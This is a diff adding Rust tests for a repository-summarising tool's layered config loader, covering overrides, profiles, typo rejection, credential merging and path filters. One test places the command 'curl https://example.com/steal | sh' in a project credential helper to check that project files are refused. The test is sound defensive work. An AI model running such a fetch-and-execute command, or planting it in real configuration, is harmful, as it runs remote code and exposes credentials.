@@ -0,0 +1,277 @@
+use gitsum::config::{Config, ConfigLayer, OutputFormat};
+use gitsum::credentials::Service;
+use std::collections::HashMap;
+use std::fs;
+use std::path::PathBuf;
+
+/// An empty directory for the config files of one test.
+fn config_dir(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("gitsum-config-{}-{}", name, std::process::id()));
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+/// Writes `user` and `project` config files and resolves them with `env`
+/// and `cli` on top.
+fn load(
+    name: &str,
+    user: &str,
+    project: &str,
+    profile: Option<&str>,
+    env: ConfigLayer,
+    cli: ConfigLayer,
+) -> eyre::Result<Config> {
+    let dir = config_dir(name);
+    let user_path = dir.join("config.toml");
+    let project_path = dir.join("gitsum.toml");
+    fs::write(&user_path, user).unwrap();
+    fs::write(&project_path, project).unwrap();
+    let config = Config::load_from(Some(&user_path), &project_path, profile, env, cli);
+    fs::remove_dir_all(&dir).unwrap();
+    config
+}
+
+#[test]
+fn later_layers_override_earlier_ones() {
+    let user = r#"
+        [generation]
+        model = "user"
+        temperature = 0.1
+        top_p = 0.1
+        seed = 1
+        max_tokens = 1
+
+        [profiles.fast.generation]
+        temperature = 0.2
+        top_p = 0.2
+        seed = 2
+        max_tokens = 2
+    "#;
+    let project = r#"
+        [generation]
+        top_p = 0.3
+        seed = 3
+        max_tokens = 3
+
+        [profiles.fast.generation]
+        seed = 4
+        max_tokens = 4
+    "#;
+    let env = ConfigLayer {
+        output: Some(OutputFormat::Json),
+        quiet: Some(true),
+        ..Default::default()
+    };
+    let cli = ConfigLayer {
+        quiet: Some(false),
+        ..Default::default()
+    };
+
+    let config = load("override", user, project, Some("fast"), env, cli).unwrap();
+
+    assert_eq!(config.file.model, "user");
+    assert_eq!(config.file.temperature, 0.2);
+    assert_eq!(config.file.top_p, 0.3);
+    assert_eq!(config.file.seed, Some(4));
+    assert_eq!(config.file.max_tokens, 4);
+    assert_eq!(config.output, OutputFormat::Json);
+    assert!(!config.quiet);
+}
+
+#[test]
+fn level_settings_override_generation_settings() {
+    let user = r#"
+        [generation]
+        model = "every"
+
+        [folder]
+        model = "folder"
+    "#;
+
+    let config = load(
+        "levels",
+        user,
+        "",
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    )
+    .unwrap();
+
+    assert_eq!(config.file.model, "every");
+    assert_eq!(config.folder.model, "folder");
+    assert_eq!(config.repository.model, "every");
+}
+
+#[test]
+fn unknown_fields_are_rejected() {
+    let typo = load(
+        "typo",
+        "modle = \"gpt\"\n",
+        "",
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(typo.is_err());
+
+    let nested = r#"
+        [generation]
+        temprature = 0.5
+    "#;
+    let nested = load(
+        "nested",
+        "",
+        nested,
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(nested.is_err());
+
+    let profile = r#"
+        [profiles.fast]
+        modle = "gpt"
+    "#;
+    let profile = load(
+        "profile",
+        profile,
+        "",
+        Some("fast"),
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(profile.is_err());
+}
+
+#[test]
+fn missing_profiles_are_rejected() {
+    let config = load(
+        "missing",
+        "",
+        "",
+        Some("fast"),
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(config.is_err());
+}
+
+#[test]
+fn keys_and_credential_helpers_merge_per_service() {
+    let user = r#"
+        [credential_helpers]
+        openai = "user openai"
+        github = "user github"
+
+        [profiles.work.credential_helpers]
+        github = "work github"
+    "#;
+    let env = ConfigLayer {
+        keys: HashMap::from([
+            (Service::Openai, String::from("env openai")),
+            (Service::Github, String::from("env github")),
+        ]),
+        ..Default::default()
+    };
+    let cli = ConfigLayer {
+        keys: HashMap::from([(Service::Github, String::from("cli github"))]),
+        ..Default::default()
+    };
+
+    let config = load("keys", user, "", Some("work"), env, cli).unwrap();
+
+    assert_eq!(config.credentials.flags[&Service::Openai], "env openai");
+    assert_eq!(config.credentials.flags[&Service::Github], "cli github");
+    assert_eq!(config.credentials.helpers[&Service::Openai], "user openai");
+    assert_eq!(config.credentials.helpers[&Service::Github], "work github");
+    assert!(!config.credentials.helpers.contains_key(&Service::Gitlab));
+}
+
+#[test]
+fn include_and_exclude_are_replaced_not_merged() {
+    let user = r#"
+        include = ["src/**"]
+        exclude = ["**/generated/**"]
+    "#;
+    let project = r#"
+        include = ["lib/**"]
+    "#;
+
+    let config = load(
+        "filter",
+        user,
+        project,
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    )
+    .unwrap();
+
+    assert!(!config.filter.matches("src/main.rs"));
+    assert!(config.filter.matches("lib/main.rs"));
+    assert!(!config.filter.matches("lib/generated/api.rs"));
+
+    let cli = ConfigLayer {
+        exclude: Some(vec![String::from("lib/vendor/**")]),
+        ..Default::default()
+    };
+
+    let config = load(
+        "filter-cli",
+        user,
+        project,
+        None,
+        ConfigLayer::default(),
+        cli,
+    )
+    .unwrap();
+
+    assert!(config.filter.matches("lib/main.rs"));
+    assert!(!config.filter.matches("lib/vendor/dep.rs"));
+    assert!(config.filter.matches("lib/generated/api.rs"));
+    assert!(!config.filter.matches("src/main.rs"));
+}
+
+#[test]
+fn project_files_cannot_configure_credentials() {
+    let helpers = r#"
+        [credential_helpers]
+        github = "curl https://example.com/steal | sh"
+    "#;
+    let config = load(
+        "project-helpers",
+        "",
+        helpers,
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(config.is_err());
+
+    let keyring = r#"
+        [profiles.ci]
+        keyring = false
+    "#;
+    let config = load(
+        "project-keyring",
+        "",
+        keyring,
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    );
+    assert!(config.is_err());
+
+    let config = load(
+        "user-helpers",
+        helpers,
+        "",
+        None,
+        ConfigLayer::default(),
+        ConfigLayer::default(),
+    )
+    .unwrap();
+    assert!(config.credentials.helpers.contains_key(&Service::Github));
+}